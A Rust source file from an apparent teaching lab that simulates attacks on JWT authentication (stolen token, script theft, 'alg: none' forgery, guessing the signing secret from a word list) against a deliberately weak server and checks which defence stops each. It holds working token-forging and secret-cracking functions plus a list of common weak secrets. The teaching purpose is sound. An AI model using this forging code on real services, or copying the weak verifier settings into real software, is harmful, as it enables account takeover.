//! The attack lab's token rows: what goes wrong with signed tokens, and what
//! stops each attack, played by the engine like the session rows.
//!
//! Every run starts on a token server whose settings are deliberately weak
//! ([`weak_token_settings`]): the token kept in the page's storage and sent
//! as `Authorization: Bearer`, a verifier that lets the token's header
//! choose its algorithm, the signing secret `secret`, and no denylist. In
//! every run Alice logs in and the administrator revokes the token her
//! laptop holds before Mallory strikes: the attack succeeds when Mallory's
//! browser is then shown Alice's profile. Each [`Defence`] of
//! [`TOKEN_DEFENCES`] changes one of those settings.
//!
//! Two of the attacks forge a token instead of stealing one. Mallory logs in
//! as herself to get a genuine token, reads its claims (anyone can: they are
//! only base64url), and writes her own with `sub: alice`: with `alg: none`
//! and no signature at all, or signed with a secret she finds by trying each
//! word of [`WORD_LIST`] with the core's own HMAC-SHA256 against her genuine
//! token's signature. Nothing in the matrix is typed by hand.

use crate::base::crypto::{constant_time_eq, hmac_sha256};
use crate::base::encoding::{base64url, base64url_decode};
use crate::base::ids::SessionId;
use crate::base::jwt::{self, Claims};
use crate::library::defence::Defence;
use crate::library::preset::Settings;
use crate::library::token::{Carry, Mechanism};
use crate::sim::world::{Action, World, LAPTOP, MALLORY};
use crate::text::message::token::TokenAttackName;
use crate::text::message::TokenMessage;

/// An attack on a token server.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum TokenAttack {
    /// Mallory gets a copy of Alice's token (malware, a shared computer) and
    /// uses it after the administrator revoked it.
    StolenToken,
    /// A script injected into the app's page reads Alice's token and sends it to Mallory.
    ScriptTheft,
    /// Mallory writes a token for Alice with `alg: none` and no signature.
    AlgNone,
    /// Mallory finds the signing secret in a word list and signs a token for Alice.
    GuessedSecret,
}

crate::base::json::json_names!(TokenAttack {
    StolenToken => "stolenToken", ScriptTheft => "scriptTheft", AlgNone => "algNone",
    GuessedSecret => "guessedSecret"
});

/// Every token attack, in teaching order.
pub const TOKEN_ATTACKS: [TokenAttack; 4] =
    [TokenAttack::StolenToken, TokenAttack::ScriptTheft, TokenAttack::AlgNone, TokenAttack::GuessedSecret];

/// The token matrix's columns, in order.
pub const TOKEN_DEFENCES: [Defence; 4] =
    [Defence::Denylist, Defence::PinnedAlgorithm, Defence::StrongSecret, Defence::TokenInHttpOnlyCookie];

/// The weak secret every run starts with.
pub const WEAK_SECRET: &str = "secret";

/// The words Mallory tries as the signing secret, most common first: the
/// kind of list (jwt.io's example secret, the words tutorials use) a
/// cracking tool starts with.
pub const WORD_LIST: [&str; 16] = [
    "your-256-bit-secret",
    "password",
    "123456",
    "changeme",
    "jwt",
    "jwt_secret",
    "jwtsecret",
    "key",
    "secretkey",
    "secret_key",
    "admin",
    "test",
    "secret",
    "mysecret",
    "supersecret",
    "s3cr3t",
];

/// The `jti` Mallory gives the tokens she writes: not one the server issued.
const FORGED_JTI: &str = "forged-by-mallory";

impl TokenAttack {
    /// The attack's name.
    pub fn label(self) -> String {
        crate::text::say(TokenMessage::Attack(match self {
            TokenAttack::StolenToken => TokenAttackName::Stolen,
            TokenAttack::ScriptTheft => TokenAttackName::ScriptTheft,
            TokenAttack::AlgNone => TokenAttackName::AlgNone,
            TokenAttack::GuessedSecret => TokenAttackName::GuessedSecret,
        }))
    }
}

/// The deliberately weak token server every token attack starts from: the
/// session attacks' weak settings, with signed tokens in page storage, a
/// verifier that reads the algorithm from the header, the secret `secret`
/// and no denylist.
pub fn weak_token_settings() -> Settings {
    let mut s = crate::labs::attacks::weak_settings();
    s.mechanism = Mechanism::Token;
    s.carry = Carry::Bearer;
    s.token_alg_from_header = true;
    s.token_secret = WEAK_SECRET.to_owned();
    s.denylist = false;
    s
}

/// What one run did.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct TokenRun {
    /// Whether Mallory was shown Alice's profile.
    pub succeeded: bool,
    /// For the guessed secret: the word that matched and how many words were tried.
    pub secret_found: Option<(String, usize)>,
}

crate::base::json::json_fields!([] TokenRun { "succeeded": succeeded, "secretFound": secret_found });

/// Plays a token attack with one defence or none.
pub fn play(attack: TokenAttack, defence: Option<Defence>) -> TokenRun {
    let mut settings = weak_token_settings();
    if let Some(defence) = defence {
        defence.apply(&mut settings);
    }
    let mut world = World::from_settings(settings);
    let login = |browser: &str, user: &str, password: &str| Action::Login {
        browser: browser.into(),
        username: user.into(),
        password: password.into(),
    };
    // The scripts name only real browsers; a failure here is a bug in the script.
    let run = |world: &mut World, action: Action| {
        world.apply(&action).expect("a token attack script runs");
    };
    run(&mut world, login(LAPTOP, "alice", "wonderland"));
    match attack {
        TokenAttack::StolenToken => run(&mut world, Action::CopyCookie { from: LAPTOP.into(), to: MALLORY.into() }),
        TokenAttack::ScriptTheft => run(&mut world, Action::ScriptTheft { browser: LAPTOP.into() }),
        TokenAttack::AlgNone | TokenAttack::GuessedSecret => {}
    }
    // The administrator revokes what Alice's laptop holds before Mallory strikes.
    run(&mut world, Action::RevokeHeldBy { browser: LAPTOP.into() });
    let mut secret_found = None;
    if matches!(attack, TokenAttack::AlgNone | TokenAttack::GuessedSecret) {
        // Mallory's own genuine token: the sample she forges from.
        run(&mut world, login(MALLORY, "mallory", "hunter2"));
        let sample = world.token_held_by(MALLORY).unwrap_or_default();
        // Out with her own token, so her page sends the forged one.
        run(&mut world, Action::Logout { browser: MALLORY.into() });
        let forged = match attack {
            TokenAttack::AlgNone => forge_alg_none(&sample),
            _ => {
                secret_found = guess_secret(&sample);
                secret_found.as_ref().and_then(|(word, _)| forge_signed(&sample, word.as_bytes()))
            }
        };
        if let Some(forged) = forged {
            run(&mut world, Action::GuessTicket { browser: MALLORY.into(), id: SessionId::from_untrusted(&forged) });
        }
    }
    run(&mut world, Action::Visit { browser: MALLORY.into(), path: "/profile".into() });
    let succeeded = world.browser(MALLORY).is_some_and(|b| {
        b.screen.status == 200 && b.screen.url.ends_with("/profile") && b.screen.text.contains("alice")
    });
    TokenRun { succeeded, secret_found }
}

/// Whether a token attack succeeds with one defence or none.
pub fn token_succeeds(attack: TokenAttack, defence: Option<Defence>) -> bool {
    play(attack, defence).succeeded
}

/// The claims of Mallory's sample, rewritten to speak for Alice under a
/// `jti` of Mallory's choosing; `None` if the sample is no token.
fn claims_for_alice(sample: &str) -> Option<Claims> {
    let parts = jwt::split(sample).ok()?;
    let claims = crate::base::json::parse(&parts.claims_json).ok()?;
    let mut forged = Claims::new("alice", claims.get("iat")?.as_u64()?, claims.get("exp")?.as_u64()?, FORGED_JTI);
    // Whatever else her token carries, she keeps as it is.
    forged.sid = claims.get("sid").and_then(|v| v.as_str()).map(str::to_owned);
    forged.ver = claims.get("ver").and_then(crate::base::json::Value::as_u64);
    Some(forged)
}

/// A token for Alice with `alg: none` and an empty signature.
pub fn forge_alg_none(sample: &str) -> Option<String> {
    let claims = claims_for_alice(sample)?;
    // The claims part as the server writes it (sign's layout); the header and signature replaced.
    let signed = jwt::sign(&claims, b"");
    let claims_part = signed.split('.').nth(1)?;
    Some(format!("{}.{claims_part}.", base64url(br#"{"alg":"none","typ":"JWT"}"#)))
}

/// A token for Alice signed with `secret`.
pub fn forge_signed(sample: &str, secret: &[u8]) -> Option<String> {
    Some(jwt::sign(&claims_for_alice(sample)?, secret))
}

/// The dictionary attack: each word of [`WORD_LIST`] as the HMAC key over
/// the sample's header and claims, compared with its signature. The word
/// that matches, and how many were tried; `None` if none does.
pub fn guess_secret(sample: &str) -> Option<(String, usize)> {
    let parts = jwt::split(sample).ok()?;
    let signature = base64url_decode(parts.signature)?;
    let input = parts.signing_input();
    WORD_LIST.iter().enumerate().find_map(|(i, word)| {
        constant_time_eq(&hmac_sha256(word.as_bytes(), input.as_bytes()), &signature)
            .then(|| ((*word).to_owned(), i + 1))
    })
}

/// One row of the token matrix: the session matrix's row, of a token attack,
/// its defences in [`TOKEN_DEFENCES`] order.
pub type TokenMatrixRow = super::attacks::MatrixRow<TokenAttack>;

/// Every token attack against every token defence, from the engine's own runs.
pub fn token_matrix() -> Vec<TokenMatrixRow> {
    TOKEN_ATTACKS
        .iter()
        .map(|&attack| TokenMatrixRow::played(attack, attack.label(), &TOKEN_DEFENCES, token_succeeds))
        .collect()
}
